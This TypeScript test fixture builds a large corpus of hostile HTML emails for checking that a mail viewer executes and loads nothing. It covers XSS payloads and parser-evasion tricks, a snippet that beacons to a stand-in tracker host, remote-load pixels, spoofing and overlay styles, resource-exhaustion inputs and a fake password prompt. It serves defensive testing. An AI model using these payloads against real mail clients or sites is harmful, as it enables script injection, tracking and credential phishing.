/** A mail that wants to do more than to be read. */
export interface HostileMail {
  readonly name: string
  readonly html: string
  /** Words in it that a person has to be able to read; null where there are none. */
  readonly words: string | null
}

/** Where the mails phone home; nobody is there. */
export const tracker = 'https://tracker.example'

/** What a script of theirs would do. */
const evil = `top.hostile=(top.hostile||0)+1;parent.hostile=1;fetch('${tracker}/ran')`

const eventHandlers = [
  ...['onload', 'onerror', 'onclick', 'onmouseover', 'onfocus', 'onblur', 'oninput', 'onchange', 'onsubmit'],
  ...['onanimationstart', 'onanimationend', 'ontransitionend', 'onpointerenter', 'onpointerdown', 'onwheel'],
  ...['onscroll', 'onresize', 'ontoggle', 'onbeforetoggle', 'onbegin', 'onend', 'onrepeat', 'onpageshow'],
  ...[
    'onhashchange',
    'onmessage',
    'oncopy',
    'onpaste',
    'ondrag',
    'ondrop',
    'onkeydown',
    'oncanplay',
    'onplay',
  ],
  ...['onloadstart', 'onloadedmetadata', 'oncontentvisibilityautostatechange', 'onscrollend', 'onauxclick'],
]

const handlers: readonly HostileMail[] = eventHandlers.flatMap(handler => [
  {
    name: `${handler} on a picture`,
    html: `<p>Read me ${handler}</p><img src="${tracker}/${handler}.gif" ${handler}="${evil}">`,
    words: `Read me ${handler}`,
  },
  {
    name: `${handler} on a part that takes the keys by itself`,
    html: `<p>Words of ${handler}</p><details open ${handler}="${evil}"><summary autofocus tabindex=0 ${handler}=${JSON.stringify(evil)}>More</summary></details>`,
    words: `Words of ${handler}`,
  },
])

const scripts: readonly HostileMail[] = [
  `<script>${evil}</script>`,
  `<SCRIPT>${evil}</SCRIPT>`,
  `<scr<script>ipt>${evil}</scr</script>ipt>`,
  `<script src="${tracker}/a.js"></script>`,
  `<script type="module">${evil}</script>`,
  `<script type=text/vbscript>${evil}</script>`,
  `<svg><script>${evil}</script></svg>`,
  `<svg><script href="${tracker}/svg.js"/></svg>`,
  `<math><mtext><script>${evil}</script></mtext></math>`,
  `<noscript><p title="</noscript><script>${evil}</script>"></noscript>`,
  `<template><script>${evil}</script></template>`,
  `<iframe srcdoc="<script>${evil}</script>"></iframe>`,
  `<iframe src="javascript:${evil}"></iframe>`,
  `<iframe src="data:text/html,<script>${evil}</script>"></iframe>`,
  `<object data="data:text/html,<script>${evil}</script>"></object>`,
  `<embed src="javascript:${evil}">`,
  `<style><img src=x onerror="${evil}"></style><script>${evil}</script>`,
  `<title><img src=x onerror="${evil}"></title></title><img src=x onerror="${evil}">`,
  `<textarea><img src=x onerror="${evil}"></textarea></textarea><img src=x onerror="${evil}">`,
  `<xmp><script>${evil}</script></xmp><plaintext><script>${evil}</script>`,
  `<!--><script>${evil}</script>-->`,
  `<!--[if gte mso 9]><script>${evil}</script><![endif]-->`,
  `<![CDATA[<script>${evil}</script>]]>`,
  `<?xml-stylesheet href="javascript:${evil}"?><p>x</p>`,
  `</body></html><script>${evil}</script>`,
  `<body onload="${evil}"><p>x</p></body>`,
  `<frameset onload="${evil}"><frame src="javascript:${evil}"></frameset>`,
  `<marquee onstart="${evil}" loop=1>x</marquee>`,
  `<isindex action="javascript:${evil}" type=image>`,
  `<keygen autofocus onfocus="${evil}">`,
].map((html, number) => ({
  name: `script ${number + 1}`,
  html: `<p>Before script ${number + 1}.</p>${html}`,
  words: `Before script ${number + 1}.`,
}))

const mutations: readonly HostileMail[] = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${evil}&gt;">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${evil}>">`,
  `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${evil} src>">`,
  `<svg><foreignObject><p><style><!--</style><img src=x onerror="${evil}">-->`,
  `<table><td><form><table><caption><svg><title><img src=x onerror="${evil}">`,
  `<select><template><style><!--</style><a rel="--><img src=x onerror='${evil}'>">`,
  `<noembed><img src="</noembed><img src=x onerror=${evil}>">`,
  `<a href="&#106;avascript:${evil}">x</a>`,
  `<div><div><div><svg><desc><![CDATA[</desc><img src=x onerror="${evil}">]]></svg>`,
  `<annotation-xml encoding="text/html"><img src=x onerror="${evil}"></annotation-xml>`,
  `<math><annotation-xml encoding="application/xhtml+xml"><style><img src=x onerror="${evil}"></style></annotation-xml></math>`,
  `<svg><animate onbegin="${evil}" attributeName=x dur=1s><set attributeName=href to="javascript:${evil}"></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>${evil}</script></svg>#x"></svg>`,
  `<p id="innerHTML"><img name="body"><form id="attributes"><input name="childNodes"></form>`,
  `<form name="document"><img name="getElementById"></form><a id="hostile" href="${tracker}/x"></a>`,
].map((html, number) => ({
  name: `mutation ${number + 1}`,
  html: `<p>Before mutation ${number + 1}.</p>${html}`,
  words: `Before mutation ${number + 1}.`,
}))

const pixels: readonly HostileMail[] = [
  `<img src="${tracker}/p.gif" width=1 height=1>`,
  `<img srcset="${tracker}/1.gif 1x, ${tracker}/2.gif 2x" src=x>`,
  `<picture><source srcset="${tracker}/s.gif"><img src="${tracker}/p.gif"></picture>`,
  `<img src="//tracker.example/schemeless.gif">`,
  `<img src="http://tracker.example/plain.gif" loading=eager>`,
  `<input type=image src="${tracker}/input.gif">`,
  `<video poster="${tracker}/poster.gif" src="${tracker}/v.mp4" autoplay></video>`,
  `<audio src="${tracker}/a.mp3" autoplay></audio>`,
  `<video><source src="${tracker}/v.webm"><track src="${tracker}/t.vtt" default></video>`,
  `<object data="${tracker}/o.swf"></object>`,
  `<embed src="${tracker}/e.swf">`,
  `<iframe src="${tracker}/f.html"></iframe>`,
  `<link rel=stylesheet href="${tracker}/l.css">`,
  `<link rel=prefetch href="${tracker}/prefetch">`,
  `<link rel=dns-prefetch href="//tracker.example">`,
  `<link rel=preconnect href="${tracker}">`,
  `<link rel=icon href="${tracker}/icon.png">`,
  `<link rel=modulepreload href="${tracker}/m.js">`,
  `<base href="${tracker}/"><img src="relative.gif">`,
  `<meta http-equiv=refresh content="0;url=${tracker}/refresh">`,
  `<body background="${tracker}/bg.gif"><p>x</p></body>`,
  `<table background="${tracker}/table.gif"><td background="${tracker}/td.gif">x</td></table>`,
  `<div style="background:url(${tracker}/style.gif)">x</div>`,
  `<style>@import url(${tracker}/import.css);</style>`,
  `<style>@font-face{font-family:x;src:url(${tracker}/f.woff)}*{font-family:x}</style>`,
  `<style>body{background-image:image-set("${tracker}/set.png" 1x)}</style>`,
  `<style>p{cursor:url(${tracker}/c.cur),auto;list-style:url(${tracker}/l.gif)}</style>`,
  `<style>p::before{content:url(${tracker}/content.gif)}</style>`,
  `<svg><image href="${tracker}/svg.png"/></svg>`,
  `<svg><image xlink:href="${tracker}/xlink.png"/></svg>`,
  `<svg><feImage href="${tracker}/fe.png"/></svg>`,
  `<svg><use href="${tracker}/sprite.svg#x"/></svg>`,
  `<math><mi href="${tracker}/math">x</mi></math>`,
  `<a href="https://example.org" ping="${tracker}/ping">x</a>`,
  `<form action="${tracker}/post"><button autofocus>Send</button></form>`,
  `<blockquote cite="${tracker}/cite">x</blockquote>`,
  `<img src="cid:part1@example.org"><img src="file:///etc/passwd"><img src="app://desk/index.html">`,
  `<img src="data:image/svg+xml,<svg xmlns=http://www.w3.org/2000/svg><image href=${tracker}/n.png /></svg>">`,
  `<portal src="${tracker}/portal"></portal><applet code="${tracker}/A.class"></applet>`,
  `<img src="${tracker}/lazy.gif" loading=lazy style="position:fixed;top:0">`,
].map((html, number) => ({
  name: `pixel ${number + 1}`,
  html: `<p>Before pixel ${number + 1}.</p>${html}`,
  words: `Before pixel ${number + 1}.`,
}))

const coverings: readonly HostileMail[] = [
  'position:fixed;inset:0;z-index:2147483647;background:red',
  'position:absolute;top:-9999px;left:-9999px;width:99999px;height:99999px',
  'width:100000px;height:100000px;display:block',
  'font-size:10000px;line-height:0',
  'margin:-500px;padding:5000px',
  'transform:scale(1000)',
  'display:none;visibility:hidden;opacity:0',
  'direction:rtl;unicode-bidi:bidi-override',
  'filter:invert(1) blur(50px)',
  'animation:x 0.01s infinite;will-change:transform',
  'color:white;background:white',
  'mix-blend-mode:difference;position:sticky',
].flatMap((style, number) => [
  {
    name: `style ${number + 1} on a part`,
    html: `<p>Under part ${number + 1}.</p><div style="${style}">Cover</div>`,
    words: `Under part ${number + 1}.`,
  },
  {
    name: `style ${number + 1} on everything`,
    html: `<style>*,html,body{${style} !important}</style><p>Under all ${number + 1}.</p>`,
    words: `Under all ${number + 1}.`,
  },
])

const addresses: readonly HostileMail[] = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  'java\nscript:alert(1)',
  'java&Tab;script:alert(1)',
  'javascript&colon;alert(1)',
  'vbscript:msgbox(1)',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'file:///etc/passwd',
  'osor-desk://item/00000000-0000-4000-8000-000000000000',
  'app://desk/index.html',
  'blob:https://tracker.example/1',
  'smb://tracker.example/share',
  'ms-word:ofe|u|https://tracker.example/x.docx',
  'tel:+3212345',
  'about:blank#blocked',
  `${tracker}/click`,
].map((address, number) => ({
  name: `address ${number + 1}`,
  html: `<p>Link ${number + 1}: <a href="${address}" target=_top autofocus>your bank</a></p><area href="${address}">`,
  words: `Link ${number + 1}:`,
}))

const shapes: readonly HostileMail[] = [
  {
    name: 'a hundred thousand parts within each other',
    html: `<p>Deep.</p>${'<div>'.repeat(2_000)}x`,
    words: 'Deep.',
  },
  {
    name: 'a hundred thousand rows',
    html: `<p>Long.</p><table>${'<tr><td>x</td></tr>'.repeat(3_000)}</table>`,
    words: 'Long.',
  },
  { name: 'a word without an end', html: `<p>Wide.</p><p>${'w'.repeat(100_000)}</p>`, words: 'Wide.' },
  { name: 'marks upon marks', html: `<p>Marks.</p><p>${'Z̸̢̡̛̛̰̞̩͎̯̝̫̟͉̹̣͊̊̓͊̈́̚͝'.repeat(500)}</p>`, words: 'Marks.' },
  {
    name: 'letters that turn the writing round',
    html: '<p>Turned.</p><p>\u202Etxt.exe\u202C\u2066x\u2069</p>',
    words: 'Turned.',
  },
  {
    name: 'letters that are not there',
    html: `<p>Nothing.</p><p>${'\u200B\u200C\u200D\uFEFF'.repeat(5_000)}</p>`,
    words: 'Nothing.',
  },
  { name: 'entities by the thousand', html: `<p>Entities.</p>${'&lt;'.repeat(20_000)}`, words: 'Entities.' },
  {
    name: 'attributes by the thousand',
    html: `<p>Attributes.</p><p ${'a=1 b=2 '.repeat(5_000)}>x</p>`,
    words: 'Attributes.',
  },
  {
    name: 'nothing closed',
    html: '<p>Open.<b><i><u><table><tr><td><ul><li><a href=x>'.repeat(100),
    words: 'Open.',
  },
  {
    name: 'a null character',
    html: '<p>Null.</p><scr\u0000ipt>top.hostile=1</scr\u0000ipt>',
    words: 'Null.',
  },
  {
    name: 'another alphabet in a tag',
    html: `<p>Alphabet.</p><ſcript>${evil}</ſcript><ımg src=x onerror="${evil}">`,
    words: 'Alphabet.',
  },
  { name: 'UTF-7', html: '<p>Seven.</p>+ADw-script+AD4-top.hostile+AD0-1+ADw-/script+AD4-', words: 'Seven.' },
  { name: 'only a picture', html: `<img src="${tracker}/all.gif" alt="Our offer">`, words: 'Our offer' },
  { name: 'nothing at all', html: '', words: null },
  {
    name: 'a page that says it is the desk',
    html: '<h1>OSOR Desk</h1><p>Type your password:</p><input type=password autofocus><button>Sign in</button>',
    words: 'Type your password:',
  },
]

/** At least two hundred of them, each of which must run nothing, load nothing, and break nothing. */
export const hostileMails: readonly HostileMail[] = [
  ...handlers,
  ...scripts,
  ...mutations,
  ...pixels,
  ...coverings,
  ...addresses,
  ...shapes,
]
